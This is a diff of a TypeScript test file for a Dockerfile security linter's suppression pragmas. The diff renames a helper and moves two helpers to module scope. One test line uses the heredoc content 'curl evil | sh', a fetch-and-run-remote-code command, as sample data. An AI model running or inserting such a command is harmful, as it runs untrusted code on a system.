@@ -98,7 +98,7 @@ describe('waivers', () => {
 });
 
 const user = instruction('USER', 'root', 3);
-const with_ = (...pragmas: ReturnType<typeof pragma>[]) => ({ dockerfile: dockerfile(pragmas) });
+const carrying = (...pragmas: ReturnType<typeof pragma>[]) => ({ dockerfile: dockerfile(pragmas) });
 
 describe('pragmas', () => {
   test('suppress what is on their instruction', () => {
@@ -107,7 +107,7 @@ describe('pragmas', () => {
       findings,
       waivers: uses,
       notifications,
-    } = suppress([found], options(with_(pragma(['runs-as-root'], user, 'needs it'))));
+    } = suppress([found], options(carrying(pragma(['runs-as-root'], user, 'needs it'))));
     expect(findings).toMatchObject([{ suppression: { kind: 'inSource', reason: 'needs it', byPullRequest: false } }]);
     expect(uses).toEqual([
       {
@@ -124,7 +124,7 @@ describe('pragmas', () => {
   });
 
   test('answer to earlier names of a rule', () => {
-    const { findings } = suppress([finding()], options(with_(pragma(['root-user'], user, 'r'))));
+    const { findings } = suppress([finding()], options(carrying(pragma(['root-user'], user, 'r'))));
     expect(findings[0]?.suppression).toBeDefined();
   });
 
@@ -146,7 +146,7 @@ describe('pragmas', () => {
   ])('a finding %s', (_, [first, ...more], covered) => {
     const over = instruction('RUN', 'x', 4, { region: { startLine: 4, endLine: 6 } });
     const found = finding({ locations: [first as Location, ...more] });
-    const { findings } = suppress([found], options(with_(pragma(['runs-as-root'], over, 'r'))));
+    const { findings } = suppress([found], options(carrying(pragma(['runs-as-root'], over, 'r'))));
     expect(findings[0]?.suppression !== undefined).toBe(covered);
   });
 
@@ -156,7 +156,7 @@ describe('pragmas', () => {
     ['pragma-without-rule', pragma([], user, 'r')],
     ['pragma-unknown-rule', pragma(['runs-as-rot'], user, 'r')],
   ])('%s: does not count, and that is said', (code, wrong) => {
-    const { findings, waivers: uses, notifications } = suppress([finding()], options(with_(wrong)));
+    const { findings, waivers: uses, notifications } = suppress([finding()], options(carrying(wrong)));
     expect(findings[0]).not.toHaveProperty('suppression');
     expect(uses).toMatchObject([{ status: 'invalid', findings: [] }]);
     expect(notifications).toMatchObject([{ level: 'warning', code, location: { kind: 'file', uri: 'Dockerfile' } }]);
@@ -167,7 +167,7 @@ describe('pragmas', () => {
       findings,
       waivers: uses,
       notifications,
-    } = suppress([finding()], options(with_(pragma(['runs-as-root', 'setuid-fil'], user, 'r'))));
+    } = suppress([finding()], options(carrying(pragma(['runs-as-root', 'setuid-fil'], user, 'r'))));
     expect(findings[0]?.suppression).toBeDefined();
     expect(uses).toMatchObject([
       { rules: ['runs-as-root'], status: 'used' },
@@ -177,12 +177,22 @@ describe('pragmas', () => {
   });
 });
 
+const heredoc = (content: string) =>
+  instruction('RUN', '<<EOF', 3, {
+    heredocs: [{ name: 'EOF', expand: true, chomp: false, content, region: { startLine: 4, endLine: 4 } }],
+  });
+
+const judge = (now: ReturnType<typeof instruction>, before: ReturnType<typeof instruction>) =>
+  suppress(
+    [finding()],
+    options({
+      ...carrying(pragma(['runs-as-root'], now, 'r')),
+      baseDockerfile: dockerfile([pragma(['runs-as-root'], before, 'r')]),
+    }),
+  ).waivers[0]?.byPullRequest;
+
 describe('who brought a pragma', () => {
-  const head = with_(pragma(['runs-as-root'], user, 'r'));
-  const heredoc = (content: string) =>
-    instruction('RUN', '<<EOF', 3, {
-      heredocs: [{ name: 'EOF', expand: true, chomp: false, content, region: { startLine: 4, endLine: 4 } }],
-    });
+  const head = carrying(pragma(['runs-as-root'], user, 'r'));
   test.each<[string, SuppressOptions['baseDockerfile'], boolean]>([
     ['no baseline', undefined, false],
     ['no such Dockerfile there', 'absent', true],
@@ -199,14 +209,6 @@ describe('who brought a pragma', () => {
   });
 
   test('flags and heredocs belong to an instruction', () => {
-    const judge = (now: ReturnType<typeof instruction>, before: ReturnType<typeof instruction>) =>
-      suppress(
-        [finding()],
-        options({
-          ...with_(pragma(['runs-as-root'], now, 'r')),
-          baseDockerfile: dockerfile([pragma(['runs-as-root'], before, 'r')]),
-        }),
-      ).waivers[0]?.byPullRequest;
     expect(judge(heredoc('id\n'), heredoc('id\n'))).toBe(false);
     expect(judge(heredoc('id\n'), heredoc('curl evil | sh\n'))).toBe(true);
     const flagged = instruction('RUN', 'id', 3, { flags: [{ name: 'security', value: 'insecure' }] });
@@ -214,7 +216,7 @@ describe('who brought a pragma', () => {
   });
 
   test('rules that were there and rules that were added are two uses', () => {
-    const now = with_(pragma(['runs-as-root', 'setuid-file'], user, 'r'));
+    const now = carrying(pragma(['runs-as-root', 'setuid-file'], user, 'r'));
     const baseDockerfile = dockerfile([pragma(['runs-as-root'], user, 'r')]);
     const { waivers: uses } = suppress(
       [finding(), finding({ ruleId: 'setuid-file' })],
